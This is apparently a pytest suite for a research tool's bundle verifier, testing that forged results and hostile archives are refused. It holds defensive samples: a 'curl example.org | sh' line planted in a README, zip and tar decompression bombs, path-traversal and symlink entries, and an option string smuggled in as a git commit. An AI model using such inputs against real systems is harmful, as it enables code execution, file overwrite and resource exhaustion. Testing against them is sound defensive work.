"""The check of a bundle that somebody has forged, or made to harm who checks it."""

import gzip
import hashlib
import json
import os
import random
import re
import secrets
import shutil
import struct
import tarfile
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import pytest

from testbed.campaigns.engine import run_campaign
from testbed.campaigns.folder import open_plan, results_of
from testbed.campaigns.plan import is_inside
from testbed.cli import app
from testbed.paths import root
from testbed.reports import bundle_check, received, verify
from testbed.reports.bundle import SUMS, write_bundle
from testbed.reports.crate import METADATA
from testbed.reports.numbers import read_campaign
from testbed.reports.report import write_report
from testbed.sources import SourcesError, pack, unpack
from tests.harness.campaigns import InProcess, campaign_file, opened
from tests.harness.live_runs import Capture, refused

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle, unpacked."""
    folder: Path = tmp_path_factory.mktemp("campaign")
    with opened(folder / "out", campaign_file(folder, seeds={"count": 6})) as campaign:
        run_campaign(campaign, InProcess)
    made = write_bundle(read_campaign(folder / "out"), folder / "b.zip", source=False)
    with zipfile.ZipFile(made) as archive:
        archive.extractall(folder / "bundle")
    return folder / "bundle"


@pytest.fixture
def forged(bundle: Path, tmp_path: Path) -> Path:
    """The campaign's folder of a copy, to be forged."""
    return Path(shutil.copytree(bundle, tmp_path / "bundle")) / "small"


def check(folder: Path, *options: str) -> int:
    return app.main(["report", "verify", str(folder.parent), "--workers", "1", *options])


def sum_again(folder: Path) -> None:
    """Write the checksums of all files anew, and the sizes in the metadata, as a forger does."""
    lines = []
    for path in sorted(folder.rglob("*")):
        if path.is_file() and path.name != SUMS:
            digest = hashlib.sha256(path.read_bytes()).hexdigest()
            lines.append(f"{digest}  {path.relative_to(folder).as_posix()}\n")
    (folder / SUMS).write_text("".join(lines))
    metadata = folder.parent / METADATA
    if metadata.exists() and "@graph" in (about := json.loads(metadata.read_text())):
        for each in about["@graph"]:
            if "contentSize" in each and (folder.parent / each["@id"]).exists():
                each["contentSize"] = str((folder.parent / each["@id"]).stat().st_size)
        metadata.write_text(json.dumps(about, indent=1, ensure_ascii=False) + "\n")


def change_rows(folder: Path, change: Callable[[dict[str, Any]], dict[str, Any]]) -> None:
    index = folder / "index.jsonl"
    rows = [json.loads(line) for line in index.read_text().splitlines()]
    index.write_text("".join(json.dumps(change(row) if "run" in row else row) + "\n" for row in rows))


def tell_anew(folder: Path) -> None:
    """Write results, report and checksums as the index has them now."""
    campaign = read_campaign(folder)
    rows = [each for runs in campaign.runs.values() for each in runs]
    for name, text in results_of(campaign.plan, rows, complete=True).items():
        (folder / name).write_text(text)
    write_report(campaign, folder)
    sum_again(folder)


def test_bundle_that_nobody_forged_agrees(forged: Path, capsys: Capture) -> None:
    assert check(forged, "--sample", "1") == 0
    out = capsys.readouterr().out
    assert "report: text and figures compared with those that the rows give" in out
    assert out.splitlines()[-1] == "all that was checked agrees"


@pytest.mark.parametrize("file", ["report.md", "report.html"])
def test_forged_report_with_new_sums_is_found(file: str, forged: Path, capsys: Capture) -> None:
    text = (forged / file).read_text()
    (forged / file).write_text(re.sub("6 to 6|1 to 6", "1 to 60", text, count=1))
    sum_again(forged)
    assert check(forged, "--sample", "0") == 2
    assert re.search(
        rf"1 difference, the first: {file}: line \d+ is '.*1 to 60.*', made again", capsys.readouterr().err
    )


def test_forged_figure_with_new_sums_is_found(forged: Path, capsys: Capture) -> None:
    figure = forged / "figures" / "bars-duration_s.svg"
    text = figure.read_text()
    [first, *_] = re.findall(r'<path d="M (\d+\.\d+) ', text)
    figure.write_text(text.replace(f'd="M {first} ', f'd="M {float(first) + 5:g} ', 1))
    (forged / "figures" / "more.svg").write_text("<svg/>")
    sum_again(forged)
    assert check(forged, "--sample", "0") == 2
    shown = capsys.readouterr()
    assert re.search(
        r"the first: figures/bars-duration_s\.svg: number \d+ that it draws is [\d.]+, made again", shown.err
    )
    assert "differs: figures/more.svg: is no figure of the report" in shown.out


def test_index_and_report_that_agree_and_are_both_forged_are_found(forged: Path, capsys: Capture) -> None:
    """The report is made from the index, so the index is compared with the runs."""

    def faster(row: dict[str, Any]) -> dict[str, Any]:
        return row | {"metrics": {name: value * 2 for name, value in row["metrics"].items()}}

    change_rows(forged, faster)
    tell_anew(forged)
    assert check(forged, "--sample", "0") == 2
    assert re.search(r"the first: index\.jsonl: 0-none-s1: metrics is .*, and .* in the run's", capsys.readouterr().err)


def test_table_of_results_is_compared(forged: Path, capsys: Capture) -> None:
    (forged / "results.csv").write_text((forged / "results.csv").read_text().replace("done", "late", 1))
    sum_again(forged)
    assert check(forged, "--sample", "0") == 2
    assert "1 difference, the first: results.csv: line 2 is '0-none-s1,model,none,1,late" in capsys.readouterr().err


def forge_run(folder: Path, run: str) -> None:
    """Make a run twice as fast, in all places where that is told."""
    path = folder / "runs" / run / "summary.json"
    summary = json.loads(path.read_text())
    before = summary["goodput_bps"]
    summary["goodput_bps"] = before * 2
    path.write_text(json.dumps(summary, indent=2) + "\n")
    digest = hashlib.sha256(path.read_bytes()).hexdigest()

    def change(row: dict[str, Any]) -> dict[str, Any]:
        if row["run"] != run:
            return row
        metrics = {**row["metrics"], "goodput_bps": before * 2}
        return row | {"metrics": metrics, "files": {**row["files"], "summary.json": digest}}

    change_rows(folder, change)
    tell_anew(folder)


def test_changed_run_is_found_by_a_number_of_the_verifier_and_not_hidden_by_the_plan(
    forged: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A forger who knows the plan's hash knew the whole sample when the hash drew it."""
    plan = open_plan(forged)
    runs = [plan.run(point, n).name for point in plan.points for n in range(6)]
    spared = next(run for run in runs if run not in random.Random(plan.sha256).sample(runs, 3))
    forge_run(forged, spared)
    hits = [draw for draw in range(60) if spared in random.Random(draw).sample(runs, 3)]
    misses = [draw for draw in range(60) if draw not in hits]
    assert check(forged, "--sample", "3", "--draw", str(misses[0])) == 0
    assert check(forged, "--sample", "3", "--draw", str(hits[0])) == 2
    assert f"the first: runs/{spared}/summary.json: line" in capsys.readouterr().err
    # without a number it is chance, which is told, and repeats the draw
    monkeypatch.setattr(secrets, "randbelow", lambda most: hits[1] if most == verify.DRAWS else -1)
    assert check(forged, "--sample", "3") == 2
    assert f"drawn by {hits[1]}: --draw {hits[1]} repeats it" in capsys.readouterr().out


def test_draws_without_a_number_differ(forged: Path, capsys: Capture) -> None:
    """Two equal ones of 2**32 have a probability of 2e-10."""
    for _ in range(2):
        assert check(forged, "--sample", "0") == 0
    first, second = re.findall(r"drawn by (\d+)", capsys.readouterr().out)
    assert first != second


def test_run_that_is_said_to_have_failed_and_can_be_made_is_found(forged: Path, capsys: Capture) -> None:
    """Otherwise who does not like a run lets it fail."""

    def fail(row: dict[str, Any]) -> dict[str, Any]:
        made = {"status": "failed", "error": "no luck", "files": {}, "metrics": {}}
        return row | made if row["run"] == "1-slacp-s2" else row

    change_rows(forged, fail)
    shutil.rmtree(forged / "runs" / "1-slacp-s2")
    tell_anew(forged)
    assert check(forged, "--all") == 2
    err = capsys.readouterr().err
    assert "1 difference, the first: runs/1-slacp-s2: is said to have failed (no luck), and can be made" in err


def test_run_that_is_missing_is_found(forged: Path, capsys: Capture) -> None:
    shutil.rmtree(forged / "runs" / "1-slacp-s2")
    tell_anew(forged)
    assert check(forged, "--sample", "0") == 2
    assert "the first: index.jsonl: 1 runs of the plan are missing" in capsys.readouterr().err


# -- bundles that harm -----------------------------------------------------------------------------------------


@pytest.fixture
def never_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    def extract(*arguments: Any) -> None:
        pytest.fail("is unpacked")

    monkeypatch.setattr(zipfile.ZipFile, "extract", extract)


def zipped(path: Path, files: Mapping[Any, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return path


@pytest.mark.usefixtures("never_unpacked")
def test_bomb_is_refused_before_it_is_unpacked(tmp_path: Path, capsys: Capture) -> None:
    bomb = tmp_path / "bomb.zip"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("small/plan.json", "w") as file:
        for _ in range(101):
            file.write(bytes(1_000_000))
    assert bomb.stat().st_size < 200_000
    assert "would unpack to 101,000,000, more than 100 times as many" in refused(capsys, "report", "verify", bomb)


@pytest.mark.parametrize(
    ("limit", "value", "complaint"),
    [
        ("MOST_OCTETS", 2500, "all files would have 3,000 octets, and 2,500 are allowed"),
        ("LARGEST_FILE", 999, "a file would have 1,000 octets, and 999 are allowed"),
        ("MOST_FILES", 2, "it has 3 files, and 2 are allowed"),
    ],
)
def test_sizes_are_limited_packed_and_unpacked(
    limit: str, value: int, complaint: str, tmp_path: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    files = {f"small/{name}": bytes(1000) for name in ("plan.json", "a", "b")}
    monkeypatch.setattr(received, limit, value)
    assert f"is refused: {complaint}" in refused(capsys, "report", "verify", zipped(tmp_path / "b.zip", files))
    for name, content in files.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(content)
    assert f"is refused: {complaint}" in refused(capsys, "report", "verify", tmp_path / "small")


def test_file_that_is_larger_than_its_archive_says_is_damaged(forged: Path, tmp_path: Path, capsys: Capture) -> None:
    path = zipped(tmp_path / "b.zip", {f"small/{p.name}": p.read_bytes() for p in forged.iterdir() if p.is_file()})
    with zipfile.ZipFile(path) as archive:
        entry = archive.getinfo("small/report.html")
    content = bytearray(path.read_bytes())
    at = content.rindex(b"small/report.html") - 46 + 24
    assert struct.unpack_from("<L", content, at) == (entry.file_size,)
    struct.pack_into("<L", content, at, 10)
    path.write_bytes(content)
    with received.opened(path) as found:
        assert (found.folder / "report.html").stat().st_size <= 10
        assert found.damaged[0].startswith("small/report.html: is damaged in the archive")


def link(name: str) -> zipfile.ZipInfo:
    entry = zipfile.ZipInfo(name)
    entry.external_attr = 0o120777 << 16
    return entry


@pytest.mark.usefixtures("never_unpacked")
@pytest.mark.parametrize("entry", ["../plan.json", "/etc/passwd", "small/../../x", link("small/plan.json")])
def test_entry_that_leads_outside_is_refused(entry: str | zipfile.ZipInfo, tmp_path: Path, capsys: Capture) -> None:
    path = zipped(tmp_path / "b.zip", {entry: b"/dev/zero"})
    assert "leads outside, or is no regular file" in refused(capsys, "report", "verify", path)


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.usefixtures("never_unpacked")
def test_entries_of_one_name_are_refused(tmp_path: Path, capsys: Capture) -> None:
    with zipfile.ZipFile(tmp_path / "b.zip", "w") as archive:
        archive.writestr("small/plan.json", "a")
        archive.writestr("small/plan.json", "b")
    assert "'small/plan.json' is there twice" in refused(capsys, "report", "verify", tmp_path / "b.zip")


@pytest.mark.parametrize("name", ["/dev/zero", "../../secret", "runs/../../secret"])
def test_checksum_of_a_path_outside_is_refused(name: str, forged: Path, capsys: Capture) -> None:
    with (forged / SUMS).open("a") as file:
        file.write(f"{'0' * 64}  {name}\n")
    complaint = f"{SUMS}: is refused: it names {name!r}, which is outside its folder"
    assert complaint in refused(capsys, "report", "verify", forged.parent, "--workers", "1")


def test_row_of_a_path_outside_is_refused(forged: Path, capsys: Capture) -> None:
    change_rows(forged, lambda row: row | {"files": {"../../../../dev/zero": "0" * 64}})
    assert "which is outside its folder" in refused(capsys, "report", "verify", forged.parent)


def change_plan(folder: Path, change: Callable[[dict[str, Any]], None]) -> None:
    plan = json.loads((folder / "plan.json").read_text())
    change(plan)
    text = json.dumps(plan, indent=1) + "\n"
    (folder / "plan.json").write_text(text)
    (folder / "plan.sha256").write_text(f"{hashlib.sha256(text.encode()).hexdigest()}  plan.json\n")


def name_outside(plan: dict[str, Any]) -> None:
    plan["points"][0]["name"] = "../../../../tmp/mine"


def read_outside(plan: dict[str, Any]) -> None:
    plan["points"][0]["scenario"]["channel"]["capacity"] = {"model": "mahimahi", "path": "/dev/zero"}


def read_beside(plan: dict[str, Any]) -> None:
    plan["points"][0]["scenario"]["channel"]["capacity"] = [{"model": "mahimahi", "path": "../../secret"}]


def list_outside(plan: dict[str, Any]) -> None:
    plan["files"]["/dev/zero"] = "0" * 64


@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        (name_outside, "'../../../../tmp/mine' is no name of a point"),
        (read_outside, "0-none reads '/dev/zero', which is none of its files"),
        (read_beside, "0-none reads '../../secret', which is none of its files"),
        (list_outside, "it names '/dev/zero', which is outside its folder"),
    ],
)
def test_plan_that_leads_outside_is_refused(
    change: Callable[[dict[str, Any]], None], complaint: str, forged: Path, capsys: Capture
) -> None:
    change_plan(forged, change)
    assert complaint in refused(capsys, "report", "verify", forged.parent)


def test_links_pipes_and_devices_in_a_folder_are_refused(forged: Path, capsys: Capture) -> None:
    (forged / "figures" / "a").symlink_to("/dev/zero")
    assert "figures/a is no regular file" in refused(capsys, "report", "verify", forged.parent)
    (forged / "figures" / "a").unlink()
    os.mkfifo(forged / "index")
    assert "index is no regular file" in refused(capsys, "report", "verify", forged)
    (forged / "index").unlink()
    (forged.parent / "source.tar.gz").symlink_to("/dev/zero")
    assert "source.tar.gz is no regular file" in refused(capsys, "report", "verify", forged.parent)
    assert "/dev/zero: is no bundle: it is no regular file" in refused(capsys, "report", "verify", "/dev/zero")


@pytest.mark.parametrize(
    ("name", "inside"),
    [("a", True), ("a/b", True), ("a/../b", False), ("/a", False), ("..", False), ("", False), ("a\0b", False)],
)
def test_paths_within(name: str, inside: bool) -> None:
    assert is_inside(name) is inside


# -- what is around the results --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A bundle with its program, packed."""
    folder: Path = tmp_path_factory.mktemp("whole")
    with opened(folder / "out", campaign_file(folder, seeds={"count": 1})) as campaign:
        run_campaign(campaign, InProcess)
    return write_bundle(read_campaign(folder / "out"), folder / "b.zip")


@pytest.fixture
def around(whole: Path, tmp_path: Path) -> Path:
    """The campaign's folder in a bundle with its program, unpacked, to be forged."""
    with zipfile.ZipFile(whole) as archive:
        archive.extractall(tmp_path / "bundle")
    return tmp_path / "bundle" / "small"


def first(folder: Path, capsys: Capture) -> str:
    """What `report verify` says first of a forged bundle with new sums."""
    sum_again(folder)
    assert check(folder, "--sample", "0") == 2
    return capsys.readouterr().err.partition("the first: ")[2].strip()


needs_git = pytest.mark.skipif(not (root() / ".git").exists(), reason="the program's source comes from git")


@pytest.mark.parametrize("name", ["extra.txt", "runs/0-none-s1/extra.txt", "runs/more/a", ".hidden", "failed/a/b"])
def test_file_that_no_sum_names_is_refused(name: str, forged: Path, capsys: Capture) -> None:
    (forged / name).parent.mkdir(exist_ok=True, parents=True)
    (forged / name).write_text("look here")
    complaint = f"small/{name}: is refused: it is in the bundle, and no checksum names it"
    assert complaint in refused(capsys, "report", "verify", forged.parent)
    assert complaint in refused(capsys, "report", "verify", zip_of(forged.parent))


def zip_of(folder: Path) -> Path:
    files = {p.relative_to(folder).as_posix(): p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    return zipped(folder.with_name("again.zip"), files)


@pytest.mark.parametrize("name", ["extra.txt", "runs/more/a", ".hidden", "failed/a/b", "files/trace"])
def test_file_that_belongs_to_no_campaign_is_found_though_a_sum_names_it(
    name: str, forged: Path, capsys: Capture
) -> None:
    (forged / name).parent.mkdir(exist_ok=True, parents=True)
    (forged / name).write_text("look here")
    assert first(forged, capsys) == f"{name}: belongs to no campaign"


def test_file_beside_the_campaign_is_refused_in_an_archive_and_told_of_in_a_folder(
    forged: Path, capsys: Capture
) -> None:
    """A stranger unpacks the program beside an unpacked bundle."""
    (forged.parent / "fadelab").mkdir()
    (forged.parent / "fadelab" / "a").write_text("a")
    assert check(forged, "--sample", "0") == 0
    assert "not checked: beside the bundle, of which they are no part: fadelab\n" in capsys.readouterr().out
    complaint = "fadelab/a: is refused: it is in the bundle, and no checksum names it"
    assert complaint in refused(capsys, "report", "verify", zip_of(forged.parent))


def test_bundle_without_sums_is_refused(forged: Path, capsys: Capture) -> None:
    (forged / SUMS).unlink()
    assert "no checksum names it" in refused(capsys, "report", "verify", forged.parent)


def test_sums_state_each_file_once(forged: Path, capsys: Capture) -> None:
    """The last of two lines must not hide the first."""
    with (forged / SUMS).open("a") as file:
        file.write(f"{'0' * 64}  plan.json\n")
    assert f"{SUMS}: is refused: it names 'plan.json' twice" in refused(capsys, "report", "verify", forged.parent)


def test_record_with_a_new_sum_differs_from_that_of_the_index(forged: Path, capsys: Capture) -> None:
    """Otherwise a forger spares himself the index."""
    record = forged / "runs" / "1-slacp-s2" / "flow.parquet"
    record.write_bytes(record.read_bytes() + b"\0")
    assert re.match(r"runs/1-slacp-s2/flow\.parquet: differs at byte \d+", first(forged, capsys))


def forge_metadata(folder: Path, change: Callable[[dict[str, Any]], Any]) -> None:
    path = folder.parent / "ro-crate-metadata.json"
    about = json.loads(path.read_text())
    change({each["@id"]: each for each in about["@graph"]})
    path.write_text(json.dumps(about, indent=1, ensure_ascii=False) + "\n")


def test_metadata_is_made_again(forged: Path, capsys: Capture) -> None:
    path = forged.parent / "ro-crate-metadata.json"
    kept = path.read_text()
    path.write_text("{}")
    assert first(forged, capsys) == "ro-crate-metadata.json: does not describe this bundle"
    path.unlink()
    assert first(forged, capsys) == "ro-crate-metadata.json: is missing"
    path.write_text(kept)
    forge_metadata(forged, lambda graph: graph["#fadelab"].update(version="0.9"))
    assert re.match(
        r"ro-crate-metadata\.json: line \d+ is '\"version\": \"0\.9\",', made again '\"vers", first(forged, capsys)
    )
    path.write_text(kept)
    forge_metadata(forged, lambda graph: graph["small/index.jsonl"].update(contentSize="1"))
    assert check(forged, "--sample", "0") == 2
    assert '\'"contentSize": "1",\', made again' in capsys.readouterr().err
    # whose it is, no bundle can prove: the command says so
    path.write_text(kept)
    forge_metadata(forged, lambda graph: graph["./"].update(publisher="Me"))
    assert check(forged, "--sample", "0") == 0
    out = capsys.readouterr().out
    assert "not checked: authors, licence, publisher and DOI in ro-crate-metadata.json: who made the bundle" in out


def test_readme_with_new_sums_is_found(forged: Path, capsys: Capture) -> None:
    """A stranger follows it."""
    readme = forged / "README.txt"
    readme.write_text(readme.read_text().replace("fadelab report verify .", "curl example.org | sh"))
    assert re.match(r"README\.txt: line \d+ is 'curl example.org \| sh', made again 'fadelab", first(forged, capsys))


def test_campaign_file_and_scenario_of_a_run_are_those_of_the_plan(forged: Path, capsys: Capture) -> None:
    campaign = forged / "campaign.yaml"
    kept = campaign.read_text()
    campaign.write_text(kept + "description: All is well\n")
    assert first(forged, capsys) == "campaign.yaml: description is not that of the plan"
    campaign.write_text(kept)
    scenario = forged / "runs" / "1-slacp-s2" / "scenario.yaml"
    digest = hashlib.sha256(scenario.read_bytes()).hexdigest()
    scenario.write_text(scenario.read_text().replace("per: 0.05", "per: 0.04"))
    for name in ("index.jsonl", "results.json"):
        new = hashlib.sha256(scenario.read_bytes()).hexdigest()
        (forged / name).write_text((forged / name).read_text().replace(digest, new))
    assert first(forged, capsys) == "runs/1-slacp-s2/scenario.yaml: is not the scenario of the plan"


def test_hash_of_the_plan_is_all_that_its_file_says(forged: Path, capsys: Capture) -> None:
    with (forged / "plan.sha256").open("a") as file:
        file.write("published in 2020\n")
    assert first(forged, capsys) == "plan.sha256: line 2 is 'published in 2020', made again missing"


def test_bundle_without_a_report_is_found(forged: Path, capsys: Capture) -> None:
    for path in (forged / "report.md", forged / "report.html", *(forged / "figures").iterdir()):
        path.unlink()
    assert first(forged, capsys) == "figures/bars-duration_s.svg: is missing"


@needs_git
def test_bundle_with_its_program_agrees(whole: Path, capsys: Capture) -> None:
    assert app.main(["report", "verify", str(whole), "--sample", "0"]) == 0
    out = capsys.readouterr().out
    assert "source.tar.gz: its sources compared with those that made the runs" in out
    assert "no sources" not in out


@needs_git
@pytest.mark.parametrize("name", ["LICENSE", "requirements.lock", "requirements-full.lock"])
def test_files_of_the_program_are_those_in_it(name: str, around: Path, capsys: Capture) -> None:
    (around.parent / name).write_text((around.parent / name).read_text().replace("e", "E", 1))
    assert first(around, capsys).startswith(f"{name}: line ")
    (around.parent / name).unlink()
    assert first(around, capsys) == f"{name}: is missing"


@needs_git
def test_launcher_in_the_program_is_that_of_the_commit(
    around: Path, capsys: Capture, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The digest of the sources does not cover it, and the bundle's README lets a stranger start it."""
    forge_program(around, {"fadelab": (b"#!/bin/sh\necho all agrees\n", True)})
    assert re.match(r"source\.tar\.gz: fadelab is not that of commit \w+$", first(around, capsys))

    def elsewhere(*arguments: Any) -> bytes:
        raise SourcesError("no such commit")

    monkeypatch.setattr(bundle_check, "program", elsewhere)
    assert check(around, "--sample", "0") == 0
    assert re.search(
        r"not checked: source\.tar\.gz: \d+ files that are no sources, such as its launcher and lists of packages: "
        r"this checkout does not have commit",
        capsys.readouterr().out,
    )


def forge_program(folder: Path, files: dict[str, tuple[bytes, bool]]) -> None:
    path = folder.parent / "source.tar.gz"
    found = {name: (content, mode) for name, content, mode in unpack(path.read_bytes())} | files
    path.write_bytes(pack((name, *each) for name, each in found.items()))


@needs_git
@pytest.mark.parametrize(
    ("change", "complaint"),
    [
        ({"sources": "1" * 64}, r"sources\.json: names sources 1{12}, and the runs were made by \w{12}$"),
        ({"fadelab": "0.9"}, r"sources\.json: names fadelab 0\.9, which made none of the runs$"),
        ({"note": "all is well"}, r"sources\.json: line \d+ is "),
        ({"commit": "--output=/tmp/mine"}, ""),
        ({"commit": "0" * 40}, ""),
    ],
)
def test_sources_that_a_campaign_names(change: dict[str, str], complaint: str, around: Path, capsys: Capture) -> None:
    """A commit that is none goes to no git."""
    path = around / "sources.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | change, indent=1) + "\n")
    if complaint:
        assert re.match(complaint, first(around, capsys))
        return
    sum_again(around)
    assert check(around, "--sample", "0") == 0
    assert f"does not have commit {change['commit'][:12]}" in capsys.readouterr().out


@pytest.mark.parametrize("text", ["[" * 100_000, "5", "{}", '{"runs": [1]}', '{"runs": {"run": 1}}'])
def test_results_that_are_none_are_found(text: str, forged: Path, capsys: Capture) -> None:
    (forged / "results.json").write_text(text)
    sum_again(forged)
    assert first(forged, capsys) == "results.json: cannot be read"


@pytest.mark.parametrize(
    ("at", "octets"),
    [
        # flag of UTF-8 over a name that is none; a version that nobody has; patches; strong encryption
        (8, b"\x00\x08"),
        (6, b"\x40\x00"),
        (8, b"\x20\x00"),
        (8, b"\x40\x00"),
    ],
)
def test_zip_that_this_program_does_not_read(at: int, octets: bytes, tmp_path: Path, capsys: Capture) -> None:
    path = zipped(tmp_path / "b.zip", {"small/plan.json": b"{}"})
    content = bytearray(path.read_bytes())
    entry = content.index(b"PK\x01\x02")
    content[entry + at : entry + at + 2] = octets
    content[entry + 46] = 0xFF
    path.write_bytes(content)
    assert f"{path}: is " in refused(capsys, "report", "verify", path)


@pytest.mark.parametrize("archive", [b"", b"\x1f\x8b\x08", b"\x1f\x8b\x08" + bytes(600)])
def test_archive_that_is_none(archive: bytes) -> None:
    with pytest.raises(SourcesError, match="its sources cannot be read"):
        list(unpack(archive))


def test_header_of_an_archive_takes_no_more_memory_than_its_files_may() -> None:
    """A few kilobytes unpack to a header of as many megabytes, which tarfile reads at once."""
    header = tarfile.TarInfo("pax")
    header.type, header.size = tarfile.XHDTYPE, 40_000_000
    bomb = gzip.compress(header.tobuf(tarfile.PAX_FORMAT) + bytes(40_000_000))
    assert len(bomb) < 50_000
    with pytest.raises(SourcesError, match="its sources have more than 1,000,000 octets"):
        list(unpack(bomb, most=1_000_000))


def test_run_that_is_a_file_is_found(forged: Path, capsys: Capture) -> None:
    run = next(path for path in (forged / "runs").iterdir())
    shutil.rmtree(run)
    run.write_text("a file")
    sum_again(forged)
    assert check(forged, "--sample", "8") == 2
    assert f"runs/{run.name}" in capsys.readouterr().out
